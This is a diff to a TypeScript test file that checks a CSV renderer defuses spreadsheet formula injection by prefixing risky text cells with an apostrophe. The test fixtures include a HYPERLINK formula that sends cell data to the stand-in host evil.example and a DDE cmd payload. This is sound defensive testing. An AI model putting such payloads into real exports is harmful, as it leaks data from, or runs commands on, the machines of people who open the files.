@@ -1,4 +1,5 @@
 import { parse } from "csv-parse/sync";
+import fc from "fast-check";
 import { describe, expect, it } from "vitest";
 import { renderCsv } from "../../src/outputs/csv-file.ts";
 
@@ -51,5 +52,54 @@ describe("renderCsv", () => {
 
   it("refuses a row whose width differs from the header", () => {
     expect(() => renderCsv(header, [["S1", "x", "y"]])).toThrow(/row 1 has 3 fields, expected 4/);
+  });
+
+  // OWASP CSV injection: a text cell starting with = + - @ TAB or CR gets a leading '.
+  it.each([
+    {
+      name: "a HYPERLINK formula",
+      value: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+      cell: '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    },
+    { name: "a DDE command", value: "+cmd|' /C calc'!A0", cell: "'+cmd|' /C calc'!A0" },
+    { name: "arithmetic", value: "-1+1", cell: "'-1+1" },
+    { name: "an @ function", value: "@SUM(1)", cell: "'@SUM(1)" },
+    { name: "a leading tab", value: "\t=1+1", cell: "'\t=1+1" },
+    { name: "a leading carriage return", value: "\r=1+1", cell: "'\r=1+1" },
+    { name: "a formula character later in the text", value: "Vej 1 = Vej 2", cell: "Vej 1 = Vej 2" },
+  ])("escapes a text value holding $name", ({ value, cell }) => {
+    const parsed = readBack(renderCsv(header, [["S1", value, "Skolevej 1", 1]]));
+    expect(parsed[1]).toEqual(["S1", cell, "Skolevej 1", "1"]);
+  });
+
+  it("keeps numbers numeric, negative ones included, and escapes only text", () => {
+    const text = decoder.decode(
+      renderCsv(header, [
+        ["-5", "-", "@", -5],
+        ["S2", "x", "y", -0.25],
+      ]),
+    );
+    expect(text).toBe("\uFEFFsite_id;site_name;address;samples\r\n'-5;'-;'@;-5\r\nS2;x;y;-0.25\r\n");
+  });
+
+  it("never lets a text cell start a formula, and keeps its content after the quote (property)", () => {
+    const startsFormula = /^[=+\-@\t\r]/;
+    fc.assert(
+      fc.property(
+        fc.oneof(
+          fc.string(),
+          fc
+            .constantFrom("=", "+", "-", "@", "\t", "\r")
+            .chain((first) => fc.string().map((rest) => first + rest)),
+        ),
+        (value) => {
+          const cell = readBack(renderCsv(["text"], [[value]]))[1]?.[0] ?? "";
+          if (startsFormula.test(value)) expect(cell).toBe(`'${value}`);
+          else expect(cell).toBe(value);
+          expect(startsFormula.test(cell)).toBe(false);
+        },
+      ),
+      { seed: 20201007, numRuns: 300 },
+    );
   });
 });
